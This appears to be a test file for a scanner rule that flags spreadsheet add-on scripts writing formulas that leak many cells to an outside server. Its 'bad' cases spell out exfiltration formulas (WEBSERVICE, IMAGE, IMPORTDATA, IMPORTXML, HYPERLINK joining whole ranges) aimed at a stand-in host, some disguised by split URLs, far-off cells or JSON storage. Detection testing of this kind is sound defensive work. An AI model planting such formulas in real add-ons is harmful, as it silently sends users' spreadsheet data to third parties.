import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const worst = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
const written = (formula: string) => `exports.activate = async ({ cells }) => { const used = await cells.getUsedRange(); await cells.setFormula(90, 30, ${formula}) }`;

test('bad: a formula that sends many cells', () => {
  for (const formula of [
    '`=WEBSERVICE("https://seal.example.org/s?v="&ENCODEURL(TEXTJOIN("|",TRUE,${used.address})))`',
    '"=IMAGE(\\"https://seal.example.org/p.gif?v=\\"&TEXTJOIN(\\",\\",TRUE,A1:Z99))"',
    '`=IMPORTDATA(CONCATENATE("https://seal.example.org/?d=", CONCAT(${used.address})))`',
    '"=IMPORT" + "XML(\\"https://seal.example.org/?\\"&JOIN(\\"|\\",A1:F20), \\"//a\\")"',
    '`=HYPERLINK("https://seal.example.org/?d="&TEXTJOIN("",1,${used.address}),"Open the report")`',
  ]) assert.equal(worst(written(formula)), 'high', formula);
  assert.equal(worst('function seal(address) { const joined = `TEXTJOIN("|",TRUE,${address})`; const place = ["https:/", "seal.example.org", "s?v="].join("/"); return `=IFERROR(LEN(WEBSERVICE("${place}"&ENCODEURL(LEFT(${joined},1800)))),"")` } cells.setFormula(1, 2, seal("A1:Z9"))'), 'high');
});

test('a script makes the formula that another one writes', () => {
  const make = 'exports.seal = (area) => ({ at: "ZZ900", text: `=WEBSERVICE("https://seal.example.org/s?v="&ENCODEURL(TEXTJOIN("|",TRUE,${area})))` })';
  const write = 'const { seal } = require("./make.js"); exports.activate = async ({ cells }) => { const { at, text } = seal(await cells.getSelection()); await cells.setFormula(at, text) }';
  assert.deepEqual(findingsOf(rule, { 'a.js': write, 'make.js': make }).map(({ severity, file }) => [severity, file]), [['high', 'make.js']]);
  // One that nothing writes into cells, and one of a script that has nothing to do with it.
  assert.deepEqual(findingsOf(rule, { 'a.js': 'const { seal } = require("./make.js"); exports.activate = ({ ui }) => ui.show(seal("A1:B2").text)', 'make.js': make }), []);
  assert.deepEqual(findingsOf(rule, { 'a.js': 'exports.activate = ({ cells }) => cells.setFormula("A1", "=1")', 'make.js': make }), []);
});

test('good: formulas of one cell, of none, and names of functions', () => {
  for (const formula of [
    '`=WEBSERVICE("https://rates.example.org/latest?base="&A${row})`',
    '`=IMAGE("https://codes.example.org/qr?size=200&data="&ENCODEURL(${address}))`',
    '"=IMPORTDATA(\\"https://rates.example.org/all.csv\\")"',
    '`=HYPERLINK("https://issues.example.org/browse/"&${cell}, ${cell})`',
    '`=TEXTJOIN(", ", TRUE, ${used.address})`',
  ]) assert.equal(worst(written(formula)), 'nothing', formula);
  // Shown, and not written into cells.
  assert.equal(worst('console.log("=WEBSERVICE(\\"https://seal.example.org/?\\"&TEXTJOIN(\\"|\\",TRUE,A1:B9))")'), 'nothing');
  assert.equal(worst('const NAMES = ["WEBSERVICE", "IMAGE", "TEXTJOIN"]; const help = "IMAGE(address) shows a picture, TEXTJOIN(text) joins"; cells.setFormula(1, 2, help)'), 'nothing');
});

test('a formula that is kept as data, beside scripts that write into cells', () => {
  const kept = JSON.stringify({ helper: '=WEBSERVICE("https://fmt.example.org/c/{n}?d="&ENCODEURL(TEXTJOIN("|",FALSE,{range})))' });
  const write = 'const kept = require("./kept.json"); exports.activate = ({ cells }) => cells.setFormula("XEZ9000", kept.helper.replace("{range}", "A1:Z25"))';
  assert.deepEqual(findingsOf(rule, { 'a.js': write, 'kept.json': kept }).map(({ severity, file }) => [severity, file]), [['high', 'kept.json']]);
  assert.deepEqual(findingsOf(rule, { 'a.js': write, 'kept.json': JSON.stringify({ helper: '=TEXTJOIN("|",FALSE,A1:B2)', help: 'WEBSERVICE(address) asks a server' }) }), []);
  assert.deepEqual(findingsOf(rule, { 'a.js': 'exports.help = require("./kept.json")', 'kept.json': kept }), []);
});
